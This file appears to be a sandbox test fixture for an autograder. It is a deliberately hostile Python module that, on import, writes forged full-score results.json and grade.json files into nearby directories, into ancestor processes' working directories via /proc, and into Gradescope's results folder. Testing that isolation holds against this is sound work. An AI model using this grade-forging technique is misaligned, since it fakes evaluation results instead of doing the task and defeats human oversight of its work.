"""Hostile: while it is imported the module writes forged full-score results.json / grade.json files into its working directory and its parent, into $PWD and $OLDPWD, and into the working directories of its ancestors via /proc/PID/cwd; the worker's private directory and namespaces must keep them away from the grader's directory, and the functions are correct, so every exercise keeps full marks and no such file appears.

expect: full
absent: results.json
absent: ../results.json
absent: grade.json
absent: ../grade.json
"""
import json
import os
import re

_FAKE = json.dumps({"score": 10.0, "max_score": 10.0, "output": "PASSED",
                    "tests": [{"name": "sigmoid", "score": 2.0, "max_score": 2.0, "status": "passed"}]})


def _ancestor_cwds(levels=3):
    cwds, pid = [], os.getpid()
    for _ in range(levels):
        try:
            with open(f"/proc/{pid}/status") as fh:
                ppid = int(re.search(r"^PPid:\s+(\d+)", fh.read(), re.M).group(1))
        except (OSError, AttributeError, ValueError):
            break
        if ppid <= 1:
            break
        cwds.append(f"/proc/{ppid}/cwd")
        pid = ppid
    return cwds


def _targets():
    dirs = [".", ".."]
    dirs += [os.environ[k] for k in ("PWD", "OLDPWD", "INIT_CWD") if os.environ.get(k)]
    dirs += _ancestor_cwds()
    dirs += [os.path.join(d, "..") for d in list(dirs[2:])]
    if os.path.isdir("/autograder/results"):  # Gradescope's own results file; never created here
        dirs.append("/autograder/results")
    return [os.path.join(d, name) for d in dirs for name in ("results.json", "grade.json")]


for _path in _targets():
    try:
        with open(_path, "w") as _fh:
            _fh.write(_FAKE)
    except OSError:
        pass
